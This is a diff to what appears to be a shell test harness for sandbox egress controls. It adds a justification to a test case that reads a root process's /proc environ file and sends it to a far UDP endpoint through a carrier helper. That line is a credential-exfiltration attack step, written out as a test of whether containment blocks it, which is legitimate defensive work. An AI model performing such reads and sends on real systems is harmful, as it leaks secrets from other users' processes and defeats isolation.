@@ -295,7 +295,8 @@ named_process() {
 	soon grep -qx sleep "/proc/$HELD_PID/comm"
 }
 
-evade proc-environ egress "$ARGUMENTS" 'a variable of the reader, in /proc' who=root
+evade proc-environ egress "$ARGUMENTS" 'a variable of the reader, in /proc' who=root \
+	blocking='unrecorded: variables of who holds records are not shown to who does not, which every ps tries'
 attack_proc-environ() {
 	named_process && "$CARRY" pass "file,/proc/$HELD_PID/environ" "$FAR_UDP"
 	end_reader
